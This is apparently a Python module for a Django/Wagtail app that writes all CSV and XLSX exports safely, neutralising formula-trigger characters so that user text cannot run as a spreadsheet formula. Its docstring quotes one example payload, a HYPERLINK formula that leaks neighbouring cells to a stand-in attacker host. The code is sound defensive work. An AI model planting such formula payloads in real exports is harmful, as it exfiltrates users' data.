"""The one exporter: every CSV and XLSX the app produces is written here, formula-safe.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some also after a leading tab
or carriage return) as a formula: a project named ``=HYPERLINK("http://evil.test/?leak="&B2,"详情")`` would send
the neighbouring cells to another site when a reviewer clicks it. Text from users is therefore written inert:

- in CSV, such a text gets a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheet programs show as text;
- in XLSX, every text is an explicit string cell, never a formula, and it gets the same apostrophe so that copying
  the cell elsewhere stays safe.

Numbers, dates and booleans are written as they are (a negative number stays a number).

Use :class:`FormulaSafeExportMixin` instead of Wagtail's ``SpreadsheetExportMixin`` on a view, and
:func:`xlsx_response` / :func:`csv_response` for a table built by hand.
"""

import csv
import datetime
from decimal import Decimal
from io import BytesIO

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.encoding import force_str
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from .rules.cells import FORMULA_TRIGGERS, neutralise  # noqa: F401  (the rule itself, re-exported here)

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _cell_value(value):
    """A value openpyxl writes as data: numbers and dates as they are, anything else as neutralised text."""
    if value is None or isinstance(value, bool | int | float | Decimal | datetime.date | datetime.time):
        return value
    return neutralise(force_str(value))


def _string_cell(worksheet, value):
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(worksheet, _cell_value(value))
    if cell.data_type == "f":  # openpyxl never gets a formula from here; this is a second lock on the door
        cell.data_type = "s"
    return cell


def write_xlsx(output, *, headings, rows, sheet_title="Sheet1", number_formats=None):
    """Write one sheet to the binary stream ``output``; ``rows`` is an iterable of sequences of cell values.

    ``number_formats`` maps a column index to an Excel number format (e.g. a date format).
    """
    from openpyxl import Workbook

    workbook = Workbook(write_only=True, iso_dates=True)
    worksheet = workbook.create_sheet(title=str(sheet_title)[:31] or "Sheet1")
    worksheet.append([_string_cell(worksheet, heading) for heading in headings])
    for row in rows:
        cells = []
        for index, value in enumerate(row):
            cell = _string_cell(worksheet, value)
            if number_formats and index in number_formats and value is not None:
                cell.number_format = number_formats[index]
            cells.append(cell)
        worksheet.append(cells)
    workbook.save(output)


def xlsx_response(*, filename, headings, rows, sheet_title="Sheet1"):
    """An attachment response holding one formula-safe sheet (see :func:`write_xlsx`)."""
    buffer = BytesIO()
    write_xlsx(buffer, headings=headings, rows=rows, sheet_title=sheet_title)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


class _Echo:
    def write(self, value):
        return value


def csv_lines(*, headings, rows):
    """The lines of a formula-safe CSV file, one string each (for a streaming response)."""
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralise(force_str(heading)) for heading in headings])
    for row in rows:
        yield writer.writerow(["" if value is None else neutralise(force_str(value)) for value in row])


def csv_response(*, filename, headings, rows):
    """A streaming attachment response with a formula-safe CSV file."""
    response = StreamingHttpResponse(csv_lines(headings=headings, rows=rows), content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


class FormulaSafeExportMixin(SpreadsheetExportMixin):
    """Wagtail's ``SpreadsheetExportMixin`` with every heading and value made inert (see the module's docstring).

    Put it before a view class that already has Wagtail's mixin (e.g. wagtail-modeladmin's ``IndexView``) or use it
    in its place; the rest of Wagtail's export API (``list_export``, ``export_headings``, ``to_row_dict``,
    ``custom_value_preprocess``) is unchanged.
    """

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_XLSX:
            return _cell_value(value)
        return "" if value is None else neutralise(force_str(value))

    def get_heading(self, queryset, field):
        return neutralise(super().get_heading(queryset, field))


def _modeladmin_index_view():
    from wagtail_modeladmin.views import IndexView

    class FormulaSafeIndexView(FormulaSafeExportMixin, IndexView):
        """wagtail-modeladmin's list with formula-safe ``?export=csv|xlsx`` (set as ``index_view_class``)."""

    return FormulaSafeIndexView


FormulaSafeIndexView = _modeladmin_index_view()
